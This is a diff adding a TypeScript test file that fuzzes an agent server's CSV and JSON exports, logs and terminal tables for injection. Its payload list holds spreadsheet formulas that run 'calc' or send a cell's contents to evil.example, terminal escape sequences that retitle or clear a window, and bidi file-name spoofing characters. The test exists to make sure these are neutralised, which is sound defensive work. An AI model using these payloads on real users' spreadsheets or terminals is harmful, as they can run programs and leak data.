@@ -1,0 +1,144 @@
+/**
+ * T14. A user writes what a terminal or a spreadsheet obeys into a question, and an agent into its answer: escape
+ * sequences that retitle a window or clear a screen, formulas that fetch an address or run a program, characters that turn
+ * text around or end a line. The owner exports the turns, opens them in a spreadsheet or looks at them with `cat`, and
+ * reads the log.
+ *
+ * Verified against the real server and store, with fuzzing: no cell of the CSV begins with what a spreadsheet takes for a
+ * formula, and each is one cell; no export, log line or table of the command line holds a control character; what was
+ * written can still be read.
+ */
+import fc from 'fast-check';
+import { expect, test } from 'vitest';
+import { csvLine, visible } from '../../src/http/csv.ts';
+import { table } from '../../src/main/table.ts';
+import { aPerson, call, runServer } from '../http/running-server.ts';
+
+const orders = [
+  ...['=cmd|"/C calc"!A0', '=HYPERLINK("https://evil.example/?"&A1)', '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'],
+  ...['  =1+1', '\n=1+1', '＝1+1', '|calc', '%0A=1', '"=1+1', '";=1+1;"', '","=1+1', 'a\r\n=1+1,b', "'=1+1"],
+  ...[
+    '\u001b]0;owned\u0007',
+    '\u001b[2J\u001b[H',
+    '\u001b]8;;https://evil.example\u001b\\click',
+    '\u009b31m',
+    '\u0008\u0008',
+  ],
+  ...['\u202egnp.exe', '\u2066x\u2069', 'a\u2028b', '\ufeff=1+1', '\u0000', '\u007f', '\u000b', '\u0085'],
+];
+
+test('T14: an export of what was said gives no orders, and loses nothing', { timeout: 60_000 }, async () => {
+  const server = await runServer();
+  const owner = await aPerson(server, { subject: 'olga', role: 'owner' });
+  const said: string[] = [];
+  for (const order of orders) {
+    const asked = await call(server, 'POST', '/api/turns', {
+      headers: owner.bearer,
+      json: { message: `${order} `, pageOrigin: `x${order}` },
+    });
+    if (asked.status !== 202) continue; // empty once it was made safe
+    said.push((await server.store.turns.get(asked.json.turnId))?.message ?? '');
+    const over = new Promise<void>((resolve) => {
+      const stop = server.turns.watch((events) => {
+        if (!events.some(({ event }) => event.type === 'finished')) return;
+        stop();
+        resolve();
+      });
+    });
+    await server.agent.answer(asked.json.turnId, `${order}\n\n${order}`);
+    await over;
+    server.clock.now += 1000;
+  }
+  expect(said.length).toBeGreaterThan(20);
+  const csv = await call(server, 'GET', '/api/admin/turns/export', { headers: owner.bearer });
+  expect(csv.headers['content-type']).toContain('text/csv');
+  const rows = parseCsv(withoutBom(csv.text));
+  const [head = [], ...lines] = rows;
+  expect(lines).toHaveLength(said.length);
+  for (const line of lines) {
+    expect(line).toHaveLength(head.length);
+    for (const cell of line) expect(cell).not.toMatch(/^[\s]*[=+\-@|%＝＋－＠]|^\t/);
+  }
+  expect(csv.text).not.toMatch(CONTROL);
+  const messages = lines.map((line) => line[head.indexOf('message')]?.replace(/^'/, ''));
+  expect(messages.reverse()).toEqual(said.map(visible).map((text) => text.replace(/^'/, '')));
+  const json = await call(server, 'GET', '/api/admin/turns/export?format=json', { headers: owner.bearer });
+  expect(json.text).not.toMatch(CONTROL);
+  expect(
+    JSON.parse(json.text)
+      .map((turn: { message: string }) => turn.message)
+      .reverse(),
+  ).toEqual(said);
+  const audit = await call(server, 'GET', '/api/admin/audit/export', { headers: owner.bearer });
+  expect(audit.text).not.toMatch(CONTROL);
+  expect(parseCsv(withoutBom(audit.text)).every((line) => line.length === 12)).toBe(true);
+  for (const line of server.log().trim().split('\n')) {
+    expect(() => JSON.parse(line)).not.toThrow();
+    expect(line).not.toMatch(CONTROL);
+    expect(line).not.toMatch(/evil\.example|calc|1\+1/);
+  }
+});
+
+test('T14: whatever a cell holds, it is one cell and no formula', () => {
+  const text = fc.oneof(fc.constantFrom(...orders), fc.string({ unit: 'binary', maxLength: 30 }));
+  fc.assert(
+    fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (cells) => {
+      const line = csvLine(cells);
+      expect(line).not.toMatch(CONTROL);
+      const [row = [], ...more] = parseCsv(line);
+      expect(more).toEqual([]);
+      expect(row).toHaveLength(cells.length);
+      for (const [index, cell] of row.entries()) {
+        expect(cell).not.toMatch(/^\s*[=+\-@|%＝＋－＠]|^\t/);
+        expect(cell.replace(/^'/, '')).toBe(visible(cells[index] ?? '').replace(/^'/, ''));
+      }
+    }),
+    { numRuns: 2000 },
+  );
+});
+
+test('T14: a table of the command line holds no order to the terminal', () => {
+  const printed = table(
+    ['user', 'tag'],
+    [orders, [...orders].reverse()].map((list) => [list.join('x'), list.join('y')]),
+  );
+  expect(printed).not.toMatch(CONTROL);
+});
+
+// Tab and newline are what they are in a file of text; a carriage return ends a line of CSV.
+// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
+const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;
+
+/** The test’s client may have taken it for what it is already. */
+function withoutBom(text: string): string {
+  return text.replace(/^\ufeff/, '');
+}
+
+/** As RFC 4180 says, character by character. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let inQuotes = false;
+  for (let at = 0; at < text.length; at++) {
+    const character = text[at];
+    if (inQuotes) {
+      if (character !== '"') cell += character;
+      else if (text[at + 1] === '"') {
+        cell += '"';
+        at++;
+      } else inQuotes = false;
+    } else if (character === '"') inQuotes = true;
+    else if (character === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (character === '\r' && text[at + 1] === '\n') {
+      rows.push([...row, cell]);
+      row = [];
+      cell = '';
+      at++;
+    } else cell += character;
+  }
+  expect([inQuotes, cell, row]).toEqual([false, '', []]);
+  return rows;
+}
